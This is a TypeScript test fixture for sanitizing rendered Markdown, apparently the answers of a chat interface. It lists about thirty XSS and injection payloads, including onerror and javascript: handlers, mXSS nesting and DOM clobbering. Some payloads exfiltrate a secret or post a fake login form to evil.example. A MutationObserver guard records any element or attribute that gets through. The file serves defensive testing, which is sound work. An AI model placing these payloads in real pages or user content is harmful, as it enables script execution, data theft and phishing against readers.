/**
 * Texts of somebody who would have the page run his script, load from his host, or show his form. `window.hit` and evil.example are
 * what none of them may reach.
 */
export const ATTEMPTS = [
  '<script>window.hit=1</script>',
  '<img src=x onerror="window.hit=1">',
  '<svg onload="window.hit=1"><script>window.hit=1</script></svg>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
  '<!--><img src=x onerror=window.hit=1>-->',
  '<![CDATA[<img src=x onerror=window.hit=1>]]>',
  '<details open ontoggle=window.hit=1>x</details>',
  '<sub><img src=x onerror=window.hit=1></sub><b onclick=window.hit=1>x</b><br/onmouseover=window.hit=1>',
  '&lt;img src=x onerror=window.hit=1&gt; \\<img src=x onerror=window.hit=1>',
  '[a](javascript:window.hit=1) [a](JaVaScRiPt&colon;window.hit=1) [a](&#106;avascript:window.hit=1)',
  '[a](java\tscript:window.hit=1) <javascript:window.hit=1> [a](vbscript:x) [a](data:text/html,x)',
  '<a href="javascript:window.hit=1" ping="https://evil.example/ping">a</a>',
  '[a]: javascript:window.hit=1 "\\"><img src=x onerror=window.hit=1>"\n\n[a]',
  '[<img src=x onerror=window.hit=1>](https://evil.example/a"onmouseover="window.hit=1)',
  '![secret](https://evil.example/?secret=1) ![<img src=x onerror=window.hit=1>](//evil.example/2)',
  '<img src="https://evil.example/3"><video src="https://evil.example/4" autoplay></video>',
  '<object data="https://evil.example/5"></object><embed src="https://evil.example/6">',
  '<link rel=stylesheet href="https://evil.example/7"><style>@import "https://evil.example/8";</style>',
  '<div style="background:url(https://evil.example/9)">x</div>',
  '<form action="https://evil.example/10"><input name=attributes type=image src="https://evil.example/11"><button>Log in</button></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/12">',
  '<table background="https://evil.example/13"><tr><td>x</td></tr></table>',
  '<b id="app" name="body">clobbers</b>',
  '```"><img src=x onerror=window.hit=1>\ncode\n```',
  '```js" onclick="window.hit=1\n"<img src=x onerror=window.hit=1>"\n```',
  '`<img src=x onerror=window.hit=1>`',
  '| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |',
  '$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{https://evil.example/14}$',
  '$\\htmlStyle{background:url(https://evil.example/15)}{b}$ $\\text{<img src=x onerror=window.hit=1>}$',
  '$</code><img src=x onerror=window.hit=1>$',
];

/** In the page: has it look after every change at what it shows. @returns what it finds, as HTML */
export function guard(): void {
  const found: string[] = [];
  window.found = found;
  const forbidden =
    'article :is(script,iframe,object,embed,link,style,form,base,meta,audio,noscript,template), .markdown :is(img,svg,video,input,details)';
  const isBad = (name: string, value: string, isOfAnswer: boolean) =>
    /^on|^ping$|^background$|^srcdoc$|^formaction$/.test(name) ||
    (isOfAnswer && /^style$|^src$|^id$|^name$/.test(name)) ||
    (name === 'href' && !/^(?:https?|mailto|blob):/.test(value)) ||
    (name === 'src' && !/^(?:blob:|data:image|\.?\/)/.test(value));
  const look = () => {
    for (const bad of document.querySelectorAll(forbidden)) found.push(bad.outerHTML.slice(0, 200));
    for (const node of document.querySelectorAll('main *, aside *, nav *')) {
      const isOfAnswer = node.closest('.markdown') !== null;
      for (const { name, value } of node.attributes)
        if (isBad(name, value, isOfAnswer))
          found.push(`${name} in ${node.outerHTML.slice(0, 200)}`);
    }
  };
  new MutationObserver(look).observe(document.body, {
    ...{ subtree: true, childList: true, attributes: true },
  });
  look();
}
